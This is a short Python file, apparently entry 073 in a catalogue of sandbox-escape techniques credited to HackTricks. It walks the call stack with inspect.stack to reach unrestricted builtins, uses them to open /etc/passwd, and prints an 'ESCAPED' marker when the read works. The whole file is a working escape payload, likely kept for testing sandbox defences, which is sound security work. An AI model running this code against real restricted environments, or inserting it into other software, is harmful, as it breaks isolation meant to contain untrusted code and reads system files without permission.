# escape: 073
# technique: inspect.stack / currentframe / traceback.walk_stack / logging.currentframe
# family: frame
# goal: frame
# first-seen: HackTricks
import inspect
f = inspect.stack()[-1].frame
if f.f_builtins['open']('/etc/passwd').readline().startswith('root:'): print('ESCAPED:inspect.stack')
